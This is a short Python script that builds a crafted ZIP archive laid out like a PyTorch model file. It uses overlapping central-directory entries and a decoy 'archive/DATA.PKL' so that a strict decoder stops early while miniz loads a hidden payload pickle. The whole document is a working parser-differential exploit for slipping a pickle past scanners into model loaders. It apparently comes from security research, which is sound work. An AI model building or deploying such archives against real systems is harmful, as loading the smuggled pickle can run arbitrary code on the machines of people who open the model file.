# Two central entries share one local header: "archive/a.pkl" (usize 2) is listed first, "archive/data.pkl"
# (same data offset and csize, usize = the whole pickle) later. miniz reads usize bytes of a STORED
# entry (csize != usize is allowed when the DOS time is nonzero: it checks 32 bits at the method offset).
# A decoy "archive/DATA.PKL" with a large csize makes the strict decoder stop ("records overlap") before it decodes
# archive/data.pkl; miniz's binary search over its heap-sorted index finds archive/data.pkl (entry 2), not the decoy.
import sys, struct, zlib
import os; sys.path.insert(0, os.path.dirname(os.path.abspath(__file__))); from zlib7 import *
out, mode = sys.argv[1], (sys.argv[2] if len(sys.argv) > 2 else '')
P = payload(mode)
f = bytearray()
lh0 = lh(b'archive/data.pkl', 0, 0); f += lh0; D = len(f); f += P
lv = len(f); ver = b'3\n'; f += lh(b'archive/version', 2, 2, zlib.crc32(ver)); f += ver
benign = b'\x80\x02}q\x00.'
lz = len(f); f += lh(b'archive/DATA.PKL', 0, 0); Dz = len(f); f += benign
# central directory after; sizes computed for the final file
cd_names = [b'archive/a.pkl', b'archive/DATA.PKL', b'archive/data.pkl', b'archive/version']
cd_len = sum(46 + len(n) for n in cd_names)
size = len(f) + cd_len + 22
C = size - D                 # csize of a.pkl and data.pkl: to the end of the file
Cz = size - Dz               # csize of archive/DATA.PKL: to the end of the file
assert Cz + C > size
cd = (ch(b'archive/a.pkl', C, 2, 0) + ch(b'archive/DATA.PKL', Cz, len(benign), lz, zlib.crc32(benign)) +
      ch(b'archive/data.pkl', C, len(P), 0, zlib.crc32(P)) + ch(b'archive/version', 2, 2, lv, zlib.crc32(ver)))
cdoff = len(f); f += cd; f += eocd(4, len(cd), cdoff)
assert len(f) == size
open(out, 'wb').write(f)
if mode == 'print':
    import os; sys.path.insert(0, os.path.dirname(os.path.abspath(__file__))); import miniz_sim; print('result:', miniz_sim.load(out))
